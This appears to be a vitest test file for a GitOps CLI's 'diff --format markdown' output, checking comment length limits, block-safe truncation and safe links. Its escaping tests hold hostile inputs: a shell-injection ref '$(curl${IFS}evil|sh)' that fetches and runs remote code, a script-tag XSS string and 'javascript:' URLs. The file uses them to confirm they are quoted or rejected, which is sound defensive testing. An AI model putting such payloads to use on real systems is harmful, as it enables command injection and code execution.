/**
 * The pull-request comment fits the hosts' limits: never longer than --max-length, cut only
 * between whole blocks (no code fence or <details> left open), the environment table, refusals,
 * warnings and (while they fit) transitions always kept, and a last line saying what was left out
 * and where the full diff is. Proven on synthetic reports of any size, on a fleet of 200 models
 * added in a real repository, and on a realistic pull request from the bundled examples.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Transition } from '@tritonops/charts';
import { afterEach, describe, expect, it } from 'vitest';
import {
  formatMarkdown,
  MIN_MAX_LENGTH,
  SHORT_OBJECT_LINES,
  WHOLE_OBJECT_LINES,
  type DiffReport,
  type EnvironmentDiff,
  type ObjectChange,
} from '../src/diff-comment.ts';
import { httpUrl, link } from '../src/markdown.ts';
import { cleanup, cli } from './support.ts';
import { bundledRepository, cpuModel, markdownStructureProblem, outsideCode } from './git-fixture.ts';

afterEach(cleanup);

const transition = (cls: Transition['class'], subject: string): Transition => ({
  class: cls,
  subject,
  change: cls === 'safe' ? 'added' : 'the pods change',
  effect: cls === 'two-steps' ? 'Flagger would roll back' : 'created',
  ...(cls === 'two-steps' ? { step: 'set the canary weight to 0 first' } : {}),
  at: { file: 'environments/x.yaml', path: ['spec'] },
});

const object = (env: string, i: number, change: ObjectChange['change'], lines: number): ObjectChange => ({
  key: `Deployment ${env}/model-${String(i).padStart(4, '0')}`,
  file: `flux/models/${env}/models/model-${i}/model-${i}.yaml`,
  change,
  diff: [`@@ -1,0 +1,${lines} @@`, ...Array.from({ length: lines }, (_, l) => `${change === 'removed' ? '-' : '+'}  line ${l}: ${'x'.repeat(40)}`)].join('\n'),
});

/** `models` models added to each environment (each with a safe transition), and one refused change in the last. */
function fleet(envs: readonly string[], models: number, diffLines = 60, cls: Transition['class'] = 'safe'): DiffReport {
  const diffs: EnvironmentDiff[] = envs.map((env, e) => ({
    environment: env,
    summary: Array.from({ length: models }, (_, i) => ({ subject: `model model-${i}`, what: 'added', before: '', after: `s3://models/model-${i}/v1` })),
    notes: [],
    objects: Array.from({ length: models }, (_, i) => object(env, i, i % 3 === 0 ? 'changed' : 'added', diffLines + ((i * 7 + e) % 13))),
    pipelines: [],
    transitions: [
      ...Array.from({ length: models }, (_, i) => transition(cls, `model model-${i}`)),
      ...(e === envs.length - 1 ? [transition('two-steps', 'model whisper')] : []),
    ],
  }));
  return {
    diffs,
    unrendered: [],
    warnings: [{ about: 'working-tree', new: true, errors: 0, warnings: 1, diagnostics: ['environments/dev/models/a.yaml:3:1: warning: `<!-- x`'], more: 0 }],
  };
}

const options = (maxLength: number, extra: { fullDiffUrl?: string; ref?: string; base?: string } = {}) => ({
  base: extra.base ?? 'main (0123456789ab)',
  ref: extra.ref ?? 'main',
  maxLength,
  ...(extra.fullDiffUrl ? { fullDiffUrl: extra.fullDiffUrl } : {}),
});

/** Whatever the cut, these stay: the title, the refusal, the warnings' headlines, the truncation note. */
function expectKept(md: string): void {
  expect(md.startsWith('## tritonops diff\n')).toBe(true);
  expect(md).toContain('> **Refused**:');
  expect(md).toContain("**Warning**: The working tree's specs have 1 new warning");
  expect(md).toMatch(/\n\*\*Truncated\*\* to fit a comment of \d+ characters: left out .+\n$/);
  expect(markdownStructureProblem(md)).toBeUndefined();
  expect(outsideCode(md)).not.toContain('<!--');
}

describe('the comment within --max-length', () => {
  it('is whole, with nothing left out, when it fits', () => {
    const report = fleet(['dev'], 3);
    const md = formatMarkdown(report, options(60_000));
    expect(md).not.toContain('Truncated');
    expect(md).toBe(formatMarkdown(report, options(0)));
    expect(md.match(/<details><summary><b>/g)).toHaveLength(3);
    expect(markdownStructureProblem(md)).toBeUndefined();
  });

  it('shows long added objects by their first lines, short ones and changed objects whole', () => {
    const md = formatMarkdown(fleet(['dev'], 3, SHORT_OBJECT_LINES + 10), options(0));
    const block = (name: string) =>
      md.slice(md.indexOf(`<code>Deployment dev/${name}</code>`), md.indexOf('</details>', md.indexOf(`<code>Deployment dev/${name}</code>`)));
    // model-0001 is added: its first lines, then a count of the rest.
    expect(block('model-0001')).toContain(`+  line ${WHOLE_OBJECT_LINES - 1}: `);
    expect(block('model-0001')).not.toContain(`+  line ${WHOLE_OBJECT_LINES}: `);
    expect(block('model-0001')).toMatch(/… and \d+ more lines of the added object \(in the full diff\)\./);
    // model-0000 is changed: every line is there.
    expect(block('model-0000')).toContain(`+  line ${SHORT_OBJECT_LINES + 9}: `);
    // Short objects are whole.
    expect(formatMarkdown(fleet(['dev'], 3, 30), options(0))).not.toContain('more lines of the');
  });

  it.each([MIN_MAX_LENGTH, 10_000, 30_000, 60_000, 65_536])('never exceeds %i characters, for 1 to 3 environments of 200 models', (max) => {
    for (const envs of [['dev'], ['dev', 'production', 'staging']]) {
      const report = fleet(envs, 200);
      const md = formatMarkdown(report, options(max));
      expect(md.length).toBeLessThanOrEqual(max);
      expectKept(md);
    }
  });

  it('leaves out object diffs first, the largest first, and keeps the rest whole', () => {
    const report = fleet(['dev'], 40, 10);
    const whole = formatMarkdown(report, options(0));
    const max = whole.length - 2_000;
    const md = formatMarkdown(report, options(max));
    expect(md.length).toBeLessThanOrEqual(max);
    expectKept(md);
    const cut = [...md.matchAll(/<code>Deployment dev\/(model-\d+)<\/code>.*: YAML diff left out/g)].map((m) => m[1]);
    expect(cut.length).toBeGreaterThan(0);
    expect(md).toContain(`left out the YAML diffs of ${cut.length} object`);
    // Every object left out has a diff at least as long as every object kept.
    const lines = (name: string) => report.diffs[0]!.objects.find((o) => o.key.endsWith(name))!.diff.split('\n').length;
    const kept = [...md.matchAll(/<details><summary><b>\w+<\/b> <code>Deployment dev\/(model-\d+)<\/code>/g)].map((m) => m[1]!);
    expect(kept.length + cut.length).toBe(40);
    expect(Math.min(...cut.map((c) => lines(c!)))).toBeGreaterThanOrEqual(Math.max(...kept.map(lines)));
    // The environment's details are still there.
    expect(md).toContain('<tr><th>Subject</th><th>Change</th><th>Before</th><th>After</th></tr>');
  });

  it('then the details of environments, the last first; then safe changes; the table and refusals stay', () => {
    const report = fleet(['dev', 'production', 'staging'], 60);
    const whole = formatMarkdown(report, options(0)).length;
    const seen = new Set<string>();
    for (let max = whole; max >= MIN_MAX_LENGTH; max -= 2_500) {
      const md = formatMarkdown(report, options(max));
      expect(md.length).toBeLessThanOrEqual(max);
      if (max === whole) continue;
      expectKept(md);
      const details = /the details of environments? ([^.;]+)[.;]/.exec(md)?.[1] ?? '';
      // Always a suffix of the environments in order: the last are left out first.
      expect(['', '`staging`', '`production`, `staging`', '`dev`, `production`, `staging`']).toContain(details);
      seen.add(details);
      if (!md.includes('the environment sections')) {
        expect(md).toContain('<tr><th>Environment</th>');
        expect(md).toContain('<b>First:</b> set the canary weight to 0 first');
      }
    }
    expect(seen.size).toBe(4);
    const tight = formatMarkdown(report, options(MIN_MAX_LENGTH));
    expect(tight).toContain('the safe changes.');
    expect(tight).toContain('<b>First:</b> set the canary weight to 0 first');
  });

  it('then the environment sections, but for their refusals, when disruptive changes alone do not fit', () => {
    const md = formatMarkdown(fleet(['dev', 'production', 'staging'], 60, 10, 'disruptive'), options(MIN_MAX_LENGTH));
    expect(md.length).toBeLessThanOrEqual(MIN_MAX_LENGTH);
    expectKept(md);
    expect(md).toContain('the environment sections (their refusals are kept)');
    expect(md).toContain('<tr><th>Environment</th>');
    expect(md).toContain('### staging\n\nRefused:');
    expect(md).not.toContain('### dev');
    expect(md).toContain('<b>First:</b> set the canary weight to 0 first');
  });

  it('points to the full diff: the URL as a safe link when given, else the command to run', () => {
    const report = fleet(['dev'], 200);
    const url = httpUrl('https://ci.example.com/job/1/artifacts/diff.txt?a="><script>x</script>&b=`y`');
    if (url instanceof Error) throw url;
    const withUrl = formatMarkdown(report, options(20_000, { fullDiffUrl: url }));
    expect(withUrl).toContain('The full diff: <a href="https://ci.example.com/job/1/artifacts/diff.txt?a=%22%3E%3Cscript%3Ex%3C/script%3E&#38;b=`y`">');
    expect(outsideCode(withUrl)).not.toContain('<script>');
    const withoutUrl = formatMarkdown(report, options(20_000, { ref: 'origin/main' }));
    expect(withoutUrl).toContain("For the full diff, run `npx tritonops diff --base origin/main` locally or see the job's artifact.");
    const hostileRef = formatMarkdown(report, options(20_000, { ref: '$(curl${IFS}evil|sh)' }));
    expect(hostileRef).toContain("run `npx tritonops diff --base '$(curl${IFS}evil|sh)'` locally");
  });

  it('fits the smallest limit even with a long base name and the longest URL', () => {
    // 2000 characters as the link holds it: & is escaped for HTML.
    const url = httpUrl(`https://ci.example.com/${'a'.repeat(1_200)}?${'&'.repeat(155)}`);
    if (url instanceof Error) throw url;
    expect(httpUrl(`https://ci.example.com/${'a'.repeat(1_200)}?${'&'.repeat(156)}`)).toBeInstanceOf(Error);
    const report = fleet(['dev', 'production', 'staging', 'qa', 'perf', 'eu', 'us', 'ap'], 100);
    const md = formatMarkdown(report, options(MIN_MAX_LENGTH, { fullDiffUrl: url, base: `${'b'.repeat(300)} (0123456789ab)`, ref: 'b'.repeat(300) }));
    expect(md.length).toBeLessThanOrEqual(MIN_MAX_LENGTH);
    expectKept(md);
    expect(md).toContain('8 environments change; 1 is refused.');
    expect(md).toContain("the per-environment table and the warnings' diagnostics");
  });

  it('counts the text as printed: hidden characters in file names, escaped 6 to 1, do not push it past the limit', () => {
    // Files under flux/ that tritonops did not render are listed by name; a name may hold
    // zero-width spaces, which the output escapes as \u200b.
    const name = (i: number) => `flux/boot/${'\u200b'.repeat(400)}${i}.yaml`;
    const report: DiffReport = { ...fleet(['dev'], 20), unrendered: Array.from({ length: 12 }, (_, i) => ({ path: name(i), change: 'added' as const })) };
    for (const limit of [MIN_MAX_LENGTH, 10_000, 30_000]) {
      const md = formatMarkdown(report, options(limit));
      expect(md.length).toBeLessThanOrEqual(limit);
      expect(md).not.toMatch(/\u200b/u);
    }
  });
});

describe('httpUrl and link', () => {
  it('accepts http(s) only, without credentials, and normalises', () => {
    expect(httpUrl('https://ci.example.com/a b')).toBe('https://ci.example.com/a%20b');
    expect(httpUrl('javascript:alert(1)')).toBeInstanceOf(Error);
    expect(httpUrl('ftp://example.com/x')).toBeInstanceOf(Error);
    expect(httpUrl('not a url')).toBeInstanceOf(Error);
    expect((httpUrl('https://user:token@ci.example.com/x') as Error).message).toContain('credentials');
    expect(link('https://e.example/"x', 'a<b')).toBe('<a href="https://e.example/&#34;x">a&#60;b</a>');
  });
});

describe('tritonops diff --format markdown in a repository', () => {
  it('a fleet of 200 models added: the comment stays within --max-length and says where the rest is; text is whole', async () => {
    const root = bundledRepository('diff-fleet');
    for (let i = 0; i < 200; i++)
      writeFileSync(join(root, `environments/dev/models/fleet-${String(i).padStart(3, '0')}.yaml`), cpuModel(`fleet-${String(i).padStart(3, '0')}`));
    const url = 'https://ci.example.com/acme/inference/-/jobs/42/artifacts/file/diff.txt';
    const r = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown', '--max-length', '60000', '--full-diff-url', url);
    expect(r.code).toBe(3);
    expect(r.stdout.length).toBeLessThanOrEqual(60_000);
    expect(r.stdout).toContain('<tr><td><code>dev</code></td><td>200</td>');
    expect(r.stdout).toContain(`The full diff: <a href="${url}">`);
    expect(r.stdout).toMatch(/\*\*Truncated\*\* to fit a comment of 60000 characters: left out the YAML diffs of \d+ objects/);
    expect(markdownStructureProblem(r.stdout)).toBeUndefined();
    const unlimited = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown', '--max-length', '0');
    expect(unlimited.stdout.length).toBeGreaterThan(60_000);
    expect(unlimited.stdout).not.toContain('Truncated');
    const text = await cli(root, 'diff', '--base', 'HEAD', '--format', 'text', '--max-length', '4000');
    expect(text.stdout.length).toBeGreaterThan(60_000);
    expect(text.stdout).toContain('+ Deployment inference-dev/fleet-199');
  });

  it('a realistic pull request (a model in three environments and a pipeline) fits whole under the default, and truncates cleanly when smaller', async () => {
    const root = bundledRepository('diff-realistic');
    for (const env of ['dev', 'staging', 'production'])
      writeFileSync(
        join(root, `environments/${env}/models/tokenizer.yaml`),
        cpuModel('tokenizer', env === 'dev' ? undefined : 'a new model, added everywhere at once'),
      );
    // A second image-classification pipeline in dev, as a team copies one.
    const pipeline = readFileSync(join(root, 'environments/dev/pipelines/image-classification.yaml'), 'utf8');
    writeFileSync(join(root, 'environments/dev/pipelines/labels.yaml'), pipeline.replace('name: image-classification', 'name: labels'));
    const whole = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown');
    expect(whole.stderr).toBe('');
    expect(whole.code).toBe(3);
    expect(whole.stdout.length).toBeLessThanOrEqual(60_000);
    expect(whole.stdout).not.toContain('Truncated');
    expect(whole.stdout).toContain('<details><summary>Pipeline <code>labels</code></summary>');
    for (const env of ['dev', 'production', 'staging']) expect(whole.stdout).toContain(`### ${env}`);
    expect(markdownStructureProblem(whole.stdout)).toBeUndefined();

    const small = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown', '--max-length', '8000');
    expect(small.stdout.length).toBeLessThanOrEqual(8_000);
    expect(small.stdout).toContain('<tr><th>Environment</th>');
    expect(small.stdout).toContain("For the full diff, run `npx tritonops diff --base HEAD` locally or see the job's artifact.");
    expect(markdownStructureProblem(small.stdout)).toBeUndefined();
  });

  it('refuses a bad --max-length or --full-diff-url as a usage error; an empty URL is none', async () => {
    const root = bundledRepository('diff-usage');
    const empty = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown', '--full-diff-url', '');
    expect(empty.code).toBe(0);
    for (const [args, message] of [
      [['--max-length', 'lots'], '--max-length takes 0 (no limit) or a number of characters from 4000, not "lots"'],
      [['--max-length', '100'], 'not "100"'],
      [['--full-diff-url', 'javascript:alert(1)'], '--full-diff-url: "javascript:alert(1)" is not an http(s) URL'],
      [['--full-diff-url', 'https://u:secret@ci.example.com/x'], 'must not hold credentials'],
    ] as const) {
      const r = await cli(root, 'diff', '--base', 'HEAD', '--format', 'markdown', ...args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toContain(message);
    }
  });
});
